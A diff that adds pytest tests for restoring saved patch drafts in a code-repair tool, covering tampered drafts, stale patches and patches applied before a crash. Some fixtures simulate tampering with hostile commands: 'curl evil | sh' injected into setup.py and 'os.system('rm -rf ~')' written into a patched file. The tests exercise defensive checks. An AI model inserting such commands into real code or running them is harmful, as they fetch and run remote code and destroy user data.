@@ -95,3 +95,102 @@ def test_a_very_long_analyzer_message_is_cut_and_the_audit_is_kept(repo: Path) -
     assert review.persist_error == ""
     later, note = restarted(repo)
     assert "was restored" in note and later.require().get("F1").finding == finding
+
+
+# --- a restored draft is re-made from the file as it is (review of r24, findings 3 and 4) --------
+
+SETUP = "from setuptools import setup\n\nsetup(name='x')\n"
+CODE = "def load(path):\n    try:\n        return open(path).read()\n    except:\n        pass\n"
+
+
+def saved_with(repo: Path, edit) -> dict:  # type: ignore[no-untyped-def]
+    """An audit with F1 (a.py) drafted, saved as the app saves it; then `edit(doc)` changes the file."""
+    import json
+
+    write(repo, "a.py", CODE)
+    finding = Finding("F1", "a.py", 4, "S110", "try-except-pass", tool="ruff")
+    ws = AuditWorkspace.from_report("scan-1", (), ScanReport(files=1, findings=[finding]), thread_id=THREAD)
+    saving(repo, ws)
+    ws.set_draft(make_draft(repo, finding, finding_id="F1", old_text="        pass\n", new_text="        raise\n"))
+    path = drafts_file.path_of(repo)
+    doc = json.loads(path.read_text(encoding="utf-8"))
+    edit(doc["states"][0]["draft"])
+    path.write_text(json.dumps(doc), encoding="utf-8")
+    return doc
+
+
+def test_a_saved_draft_for_another_file_than_its_finding_is_not_restored(repo: Path) -> None:
+    from autopatch_tui.core.repair.patching import digest
+
+    write(repo, "setup.py", SETUP)
+
+    def elsewhere(draft: dict) -> None:  # the a.py diff stays; the edit goes to setup.py
+        draft.update(path="setup.py", old_text="setup(name='x')\n",
+                     new_text="import os; os.system('curl evil | sh')\nsetup(name='x')\n", base_digest=digest(SETUP))
+
+    saved_with(repo, elsewhere)
+    later, note = restarted(repo)
+    assert note == "The saved audit was not read: it is not a valid audit file."
+    assert later.workspace is None and (repo / "setup.py").read_text(encoding="utf-8") == SETUP
+
+
+def test_a_saved_draft_bound_to_another_finding_is_not_restored(repo: Path) -> None:
+    saved_with(repo, lambda draft: draft.update(finding_id="F2"))
+    later, note = restarted(repo)
+    assert note == "The saved audit was not read: it is not a valid audit file." and later.workspace is None
+
+
+def test_the_diff_shown_after_a_restart_is_the_one_apply_writes(repo: Path) -> None:
+    from autopatch_tui.core.repair.patching import apply_draft
+
+    # the file is unchanged (its fingerprint matches), but the stored diff says something else
+    saved_with(repo, lambda draft: draft.update(new_text="        import os; os.system('rm -rf ~')\n"))
+    later, note = restarted(repo)
+    assert note == "The open audit of the repository was restored: 1 pending patch(es) (/patch list)."
+    draft = later.require().pending_patch("F1").draft
+    assert draft is not None and "+        import os; os.system('rm -rf ~')\n" in draft.diff
+    assert "raise" not in draft.diff
+    apply_draft(repo, draft)
+    assert "os.system" in (repo / "a.py").read_text(encoding="utf-8")  # what was shown is what was written
+
+
+def test_a_saved_draft_that_would_not_parse_is_stale_after_a_restart(repo: Path) -> None:
+    saved_with(repo, lambda draft: draft.update(new_text="        raise (\n"))
+    later, note = restarted(repo)
+    assert "0 pending patch(es), 1 stale" in note and later.require().get("F1").status == "stale"
+
+
+def test_a_patch_applied_before_its_state_was_saved_is_not_offered_again(repo: Path) -> None:
+    from autopatch_tui.core.repair.patching import apply_draft
+
+    write(repo, "a.py", CODE)
+    finding = Finding("F1", "a.py", 4, "S110", "try-except-pass", tool="ruff")
+    ws = AuditWorkspace.from_report("scan-1", (), ScanReport(files=1, findings=[finding]), thread_id=THREAD)
+    saving(repo, ws)
+    # the new text holds the old one: applied twice, the edit would double
+    old, new = "        pass\n", "        pass\n        log.exception('load failed')\n"
+    ws.set_draft(make_draft(repo, finding, finding_id="F1", old_text=old, new_text=new))
+    apply_draft(repo, ws.get("F1").draft)  # the app is killed after the write, before `applied` is saved
+    patched = (repo / "a.py").read_text(encoding="utf-8")
+    later, note = restarted(repo)
+    state = later.require().get("F1")
+    assert (state.status, state.verification) == ("applied", "unverified")
+    assert "Applied before the restart (not verified again): F1." in note
+    assert later.pending_patches() == 0 and (repo / "a.py").read_text(encoding="utf-8") == patched
+
+
+def test_a_patch_applied_and_then_edited_around_is_stale_not_offered_again(repo: Path) -> None:
+    from autopatch_tui.core.repair.patching import apply_draft
+
+    write(repo, "a.py", CODE)
+    finding = Finding("F1", "a.py", 4, "S110", "try-except-pass", tool="ruff")
+    ws = AuditWorkspace.from_report("scan-1", (), ScanReport(files=1, findings=[finding]), thread_id=THREAD)
+    saving(repo, ws)
+    old, new = "        pass\n", "        pass\n        log.exception('load failed')\n"
+    ws.set_draft(make_draft(repo, finding, finding_id="F1", old_text=old, new_text=new))
+    apply_draft(repo, ws.get("F1").draft)
+    path = repo / "a.py"
+    path.write_text("import logging\n" + path.read_text(encoding="utf-8"), encoding="utf-8")  # edited since
+    later, note = restarted(repo)
+    assert later.require().get("F1").status == "stale" and later.pending_patches() == 0
+    assert "Stale (their text changed): F1" in note
